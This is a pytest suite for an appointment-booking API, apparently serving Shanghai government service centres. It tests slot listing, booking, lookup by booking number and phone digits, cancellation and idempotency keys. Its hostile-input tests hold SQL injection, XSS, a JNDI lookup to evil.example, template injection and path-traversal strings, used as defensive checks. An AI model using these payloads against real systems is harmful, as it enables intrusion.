"""Appointments: free slots, booking, verified lookup, cancellation, idempotency, hostile input."""
from __future__ import annotations

import itertools
import re
from datetime import date, timedelta

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select

from dataservice.db import make_engine, make_sessionmaker
from dataservice.main import create_app
from dataservice.models import Booking, Center, IdempotencyRecord, Slot
from dataservice.opening_hours import day_hours, shanghai_today
from dataservice.security import verification_digest
from dataservice.seed import SeedContext
from dataservice.seed import slots as slot_loader

from .conftest import OTHER_KEY

BOOKING_NO = re.compile(r"^AP\d{6}[A-HJ-NP-Z2-9]{8}$")
PHONE = "13912345678"
# Far-future days of this module's own slots; a counter keeps each test's slot unique.
_DAYS = itertools.count()


@pytest.fixture(scope="module")
def db(settings):
    engine = make_engine(settings.database_url)
    yield make_sessionmaker(engine)
    engine.dispose()


def new_slot(db, capacity: int = 3, day: date | None = None, center: str = "pudong-huamu",
             service: str = "residence_permit", start: str = "10:00") -> int:
    day = day or date(2030, 1, 1) + timedelta(days=next(_DAYS))
    with db() as session, session.begin():
        slot = Slot(center_id=center, service_code=service, day=day, start_time=start,
                    end_time=f"{int(start[:2]) + 1:02d}{start[2:]}", capacity=capacity, booked=0)
        session.add(slot)
        session.flush()
        return slot.id


def booked(db, slot_id: int) -> int:
    with db() as session:
        return session.get(Slot, slot_id).booked


def bookings_of(db, slot_id: int) -> list[Booking]:
    with db() as session:
        return list(session.scalars(select(Booking).where(Booking.slot_id == slot_id)))


def book(client: TestClient, slot_id: int, key: str | None = None, **overrides):
    body = {"slot_id": slot_id, "name": "王小明", "phone": PHONE} | overrides
    headers = {"Idempotency-Key": key} if key else {}
    return client.post("/v1/appointments", json=body, headers=headers)


def remaining(client: TestClient, slot_id: int, day: str) -> int | None:
    items = client.get("/v1/slots", params={"center": "pudong-huamu", "service": "residence_permit",
                                            "date": day}).json()["items"]
    return next((s["remaining"] for s in items if s["slot_id"] == slot_id), None)


# ---------------------------------------------------------------- free slots


def _next_open_weekday() -> date:
    day = shanghai_today() + timedelta(days=1)
    while day.weekday() >= 5:
        day += timedelta(days=1)
    return day


def test_free_slots_of_seeded_centre(client: TestClient):
    r = client.get("/v1/slots", params={"center": "xuhui-tianlin", "service": "pension_claim",
                                        "lang": "en"})
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["center"]["id"] == "xuhui-tianlin" and body["service"]["code"] == "pension_claim"
    assert body["items"], "seeded slots expected over the coming days"
    today = shanghai_today().isoformat()
    for s in body["items"]:
        assert s["date"] >= today and 0 < s["remaining"] <= s["capacity"] <= 6
        assert 3 <= s["capacity"]
        # Lunch break 11:30-13:30 at Tianlin: no slot starts inside it.
        assert not ("11:30" <= s["start"] < "13:30")


def test_no_slots_on_closed_days(client: TestClient, db):
    with db() as session:
        center = session.get(Center, "pudong-tangqiao")  # closed at weekends and on holidays
        days = set(session.scalars(select(Slot.day).where(Slot.center_id == center.id)))
        assert days
        assert all(day_hours(center.weekly_hours, d).open for d in days)
        assert all(d.weekday() < 5 or day_hours(center.weekly_hours, d).reason == "makeup_workday"
                   for d in days)


def test_slots_on_a_given_day(client: TestClient):
    day = _next_open_weekday().isoformat()
    items = client.get("/v1/slots", params={"center": "pudong-huamu", "service": "passport"})
    assert items.status_code == 404 and items.json()["error"]["code"] == "service_not_offered"
    r = client.get("/v1/slots", params={"center": "pudong-huamu", "service": "residence_permit",
                                        "date": day})
    assert r.status_code == 200 and r.json()["date"] == day
    assert all(s["date"] == day for s in r.json()["items"])


@pytest.mark.parametrize("params, status, code", [
    ({"center": "nope", "service": "passport"}, 404, "center_not_found"),
    ({"center": "pudong-huamu", "service": "ufo"}, 404, "unknown_service"),
    ({"center": "pudong-huamu", "service": "residence_permit", "date": "2026-02-30"}, 422,
     "invalid_date"),
    ({"center": "pudong-huamu"}, 422, "validation_error"),
    ({"center": "'; DROP TABLE slots; --", "service": "passport"}, 404, "center_not_found"),
])
def test_slot_listing_errors(client: TestClient, params, status, code):
    r = client.get("/v1/slots", params=params)
    assert r.status_code == status
    assert r.json()["error"]["code"] == code


# ---------------------------------------------------------------- booking


def test_book_look_up_and_cancel(client: TestClient, db, settings):
    slot_id = new_slot(db, capacity=2)
    with db() as session:
        day = session.get(Slot, slot_id).day.isoformat()
    assert remaining(client, slot_id, day) == 2

    r = book(client, slot_id, language="en")
    assert r.status_code == 201, r.text
    created = r.json()
    assert BOOKING_NO.match(created["booking_no"])
    assert created["status"] == "booked"
    assert created["slot"] == {"slot_id": slot_id, "date": day, "start": "10:00", "end": "11:00"}
    assert created["center"]["id"] == "pudong-huamu" and created["center"]["name"].isascii()
    assert created["service"]["code"] == "residence_permit"
    assert created["name_masked"] == "王**" and created["phone_masked"] == "139******78"
    assert PHONE not in r.text and "5678" not in r.text.replace(created["booking_no"], "")
    assert remaining(client, slot_id, day) == 1  # the cached listing was invalidated

    # Only masked values and the keyed digest of the last four digits are stored.
    [row] = bookings_of(db, slot_id)
    assert row.verify_digest == verification_digest(settings.pepper, row.booking_no, "5678")
    assert PHONE not in str(vars(row))

    ref = {"booking_no": created["booking_no"], "phone_last4": "5678"}
    found = client.post("/v1/appointments/lookup", json=ref, params={"lang": "en"})
    assert found.status_code == 200 and found.json() == created
    lower = client.post("/v1/appointments/lookup",
                        json=ref | {"booking_no": ref["booking_no"].lower()})
    assert lower.status_code == 200 and lower.json()["center"]["name"].startswith("浦东")

    wrong = client.post("/v1/appointments/lookup", json=ref | {"phone_last4": "5679"})
    unknown = client.post("/v1/appointments/lookup",
                          json={"booking_no": "AP300101ABCDEFGH", "phone_last4": "5678"})
    assert wrong.status_code == unknown.status_code == 404
    assert wrong.json() == unknown.json()  # does not reveal whether the number exists
    assert wrong.json()["error"]["code"] == "not_found"
    bad_cancel = client.post("/v1/appointments/cancel", json=ref | {"phone_last4": "0000"})
    assert bad_cancel.status_code == 404 and booked(db, slot_id) == 1

    cancelled = client.post("/v1/appointments/cancel", json=ref)
    assert cancelled.status_code == 200, cancelled.text
    assert cancelled.json()["status"] == "cancelled" and cancelled.json()["cancelled_at"]
    assert booked(db, slot_id) == 0
    assert remaining(client, slot_id, day) == 2
    again = client.post("/v1/appointments/cancel", json=ref)
    assert again.status_code == 200 and again.json() == cancelled.json()
    assert booked(db, slot_id) == 0  # freed once, not twice
    looked = client.post("/v1/appointments/lookup", json=ref).json()
    assert looked["status"] == "cancelled"


def test_full_slot_is_409_and_never_overbooked(client: TestClient, db):
    slot_id = new_slot(db, capacity=1)
    assert book(client, slot_id).status_code == 201
    r = book(client, slot_id, phone="13700001111")
    assert r.status_code == 409 and r.json()["error"]["code"] == "slot_full"
    assert booked(db, slot_id) == 1 and len(bookings_of(db, slot_id)) == 1


def test_past_slot_is_rejected(client: TestClient, db):
    # 07:00 a few days back: no seeded slot has that natural key.
    slot_id = new_slot(db, day=shanghai_today() - timedelta(days=3), start="07:00")
    r = book(client, slot_id)
    assert r.status_code == 409 and r.json()["error"]["code"] == "slot_in_past"
    assert booked(db, slot_id) == 0


def test_unknown_slot_is_404(client: TestClient):
    r = book(client, 2_000_000_000)
    assert r.status_code == 404 and r.json()["error"]["code"] == "slot_not_found"


# ---------------------------------------------------------------- idempotency


def test_idempotent_replay_returns_the_identical_response(client: TestClient, db, settings):
    slot_id = new_slot(db, capacity=3)
    first = book(client, slot_id, key="retry-me-1")
    second = book(client, slot_id, key="retry-me-1")
    assert first.status_code == second.status_code == 201
    assert second.content == first.content
    assert second.headers.get("Idempotent-Replayed") == "true"
    assert booked(db, slot_id) == 1 and len(bookings_of(db, slot_id)) == 1
    with db() as session:
        assert session.scalar(select(func.count()).select_from(IdempotencyRecord)
                              .where(IdempotencyRecord.key == "retry-me-1")) == 1
        record = session.scalar(select(IdempotencyRecord)
                                .where(IdempotencyRecord.key == "retry-me-1"))
        assert PHONE not in str(record.response) and PHONE not in record.request_digest

    # Keys are per client: another API client's same key is another request.
    with TestClient(create_app(settings), headers={"X-API-Key": OTHER_KEY}) as other:
        third = book(other, slot_id, key="retry-me-1")
    assert third.status_code == 201 and third.json()["booking_no"] != first.json()["booking_no"]
    assert booked(db, slot_id) == 2


def test_reusing_a_key_with_another_body_is_422(client: TestClient, db):
    slot_id = new_slot(db, capacity=3)
    assert book(client, slot_id, key="reuse-1").status_code == 201
    r = book(client, slot_id, key="reuse-1", name="李四")
    assert r.status_code == 422 and r.json()["error"]["code"] == "idempotency_key_reused"
    assert book(client, slot_id, key="reuse-1", language="en").status_code == 422
    assert booked(db, slot_id) == 1


def test_failed_attempts_are_not_stored_under_the_key(client: TestClient, db):
    slot_id = new_slot(db, capacity=1)
    assert book(client, slot_id, phone="13600000000").status_code == 201
    assert book(client, slot_id, key="full-then-retry").status_code == 409
    with db() as session, session.begin():
        session.get(Slot, slot_id).capacity = 2  # a desk opens up
    assert book(client, slot_id, key="full-then-retry").status_code == 201



def _age_record(db, key: str, hours: float) -> None:
    with db() as session, session.begin():
        record = session.scalar(select(IdempotencyRecord).where(IdempotencyRecord.key == key))
        record.created_at = record.created_at - timedelta(hours=hours)


def test_an_expired_key_books_again_and_expired_records_are_purged(app, client: TestClient, db):
    ttl_hours = app.state.settings.idempotency_ttl_seconds / 3600
    slot_id = new_slot(db, capacity=5)
    first = book(client, slot_id, key="next-day-1")
    _age_record(db, "next-day-1", ttl_hours - 1)
    assert book(client, slot_id, key="next-day-1").headers.get("Idempotent-Replayed") == "true"
    _age_record(db, "next-day-1", 2)  # now older than the TTL: the key is free again
    again = book(client, slot_id, key="next-day-1")
    assert again.status_code == 201 and "Idempotent-Replayed" not in again.headers
    assert again.json()["booking_no"] != first.json()["booking_no"]
    assert booked(db, slot_id) == 2
    # A stale record of another key disappears at the next booking's purge (once a minute).
    book(client, slot_id, key="forgotten-1")
    _age_record(db, "forgotten-1", ttl_hours + 1)
    app.state.bookings.purged_at = float("-inf")
    assert book(client, slot_id).status_code == 201
    with db() as session:
        keys = set(session.scalars(select(IdempotencyRecord.key)
                                   .where(IdempotencyRecord.key.in_(["next-day-1", "forgotten-1"]))))
    assert keys == {"next-day-1"}


# ---------------------------------------------------------------- hostile and invalid input


@pytest.mark.parametrize("name", [
    "'; DROP TABLE slots; --", "Robert'); DROP TABLE bookings;--", "<script>alert(1)</script>",
    "张三' OR '1'='1", "${jndi:ldap://evil.example/a}", "{{7*7}}", "../../etc/passwd",
    "Ｊｏｈｎ　Ｓｍｉｔｈ", "Zoë O'Brien-Núñez",
])
def test_injection_strings_are_just_names(client: TestClient, db, name):
    slot_id = new_slot(db, capacity=1)
    r = book(client, slot_id, name=name)
    assert r.status_code == 201, r.text
    assert r.json()["name_masked"][0] == name.strip()[0]
    assert name not in r.text
    assert booked(db, slot_id) == 1
    assert client.get("/v1/centers/pudong-huamu").status_code == 200


@pytest.mark.parametrize("body", [
    {},
    {"slot_id": 1, "name": "王小明"},
    {"slot_id": "1", "name": "王小明", "phone": PHONE},
    {"slot_id": True, "name": "王小明", "phone": PHONE},
    {"slot_id": 1.5, "name": "王小明", "phone": PHONE},
    {"slot_id": -1, "name": "王小明", "phone": PHONE},
    {"slot_id": 2**31, "name": "王小明", "phone": PHONE},
    {"slot_id": 10**30, "name": "王小明", "phone": PHONE},
    {"slot_id": 1, "name": "", "phone": PHONE},
    {"slot_id": 1, "name": "   ", "phone": PHONE},
    {"slot_id": 1, "name": "x" * 65, "phone": PHONE},
    {"slot_id": 1, "name": "王\n小明", "phone": PHONE},
    {"slot_id": 1, "name": "王\x00小明", "phone": PHONE},
    {"slot_id": 1, "name": ["王小明"], "phone": PHONE},
    {"slot_id": 1, "name": "王小明", "phone": "12345678901"},
    {"slot_id": 1, "name": "王小明", "phone": "1391234567"},
    {"slot_id": 1, "name": "王小明", "phone": "139123456789"},
    {"slot_id": 1, "name": "王小明", "phone": "139-1234-5678"},
    {"slot_id": 1, "name": "王小明", "phone": 13912345678},
    {"slot_id": 1, "name": "王小明", "phone": PHONE, "language": "fr"},
    {"slot_id": 1, "name": "王小明", "phone": PHONE, "status": "cancelled"},
])
def test_invalid_booking_bodies_are_422(client: TestClient, body):
    r = client.post("/v1/appointments", json=body)
    assert r.status_code == 422, body
    assert r.json()["error"]["code"] == "validation_error"


@pytest.mark.parametrize("key", ["", "k" * 129, "has space", "ключ"])
def test_invalid_idempotency_keys_are_422(client: TestClient, db, key):
    slot_id = new_slot(db, capacity=1)
    headers = {"Idempotency-Key": key.encode("utf-8")}
    r = client.post("/v1/appointments", json={"slot_id": slot_id, "name": "王小明", "phone": PHONE},
                    headers=headers)
    assert r.status_code == 422
    assert booked(db, slot_id) == 0


@pytest.mark.parametrize("path", ["/v1/appointments/lookup", "/v1/appointments/cancel"])
@pytest.mark.parametrize("body", [
    {}, {"booking_no": "AP300101ABCDEFGH"},
    {"booking_no": "AP300101ABCDEFGH", "phone_last4": "567"},
    {"booking_no": "AP300101ABCDEFGH", "phone_last4": "56789"},
    {"booking_no": "AP300101ABCDEFGH", "phone_last4": 5678},
    {"booking_no": "AP300101ABCDEFGH", "phone_last4": "12a4"},
    {"booking_no": "' OR 1=1 --", "phone_last4": "5678"},
    {"booking_no": "A" * 33, "phone_last4": "5678"},
    {"booking_no": "AP300101ABCDEFGH", "phone_last4": "5678", "phone": PHONE},
])
def test_invalid_lookup_bodies_are_422(client: TestClient, path, body):
    r = client.post(path, json=body)
    assert r.status_code == 422
    assert r.json()["error"]["code"] == "validation_error"


def test_factor_never_goes_in_the_url(client: TestClient):
    assert client.get("/v1/appointments/lookup",
                      params={"booking_no": "AP300101ABCDEFGH", "phone_last4": "5678"}
                      ).status_code == 405


# ---------------------------------------------------------------- seeding


def test_reseeding_slots_keeps_bookings(client: TestClient, db, settings):
    items = client.get("/v1/slots", params={"center": "chongming-baozhen",
                                            "service": "elderly_care_subsidy"}).json()["items"]
    slot = items[-1]
    assert book(client, slot["slot_id"]).status_code == 201
    with db() as session:
        before = session.scalar(select(func.count()).select_from(Slot))
    ctx = SeedContext(pepper=settings.pepper)
    for _ in range(2):
        with db() as session, session.begin():
            slot_loader.load(session, ctx)
    with db() as session:
        assert session.scalar(select(func.count()).select_from(Slot)) == before
    assert booked(db, slot["slot_id"]) == slot["capacity"] - slot["remaining"] + 1


def test_full_width_digits_are_not_a_phone_number(client):
    """\\d would accept full-width digits, and the booking could never be looked up again."""
    slots = client.get("/v1/centers", params={"service": "passport"}).json()["items"]
    assert slots
    r = client.post("/v1/appointments", json={"slot_id": 1, "name": "王小明", "phone": "13８１２３４５６７８"})
    assert r.status_code == 422
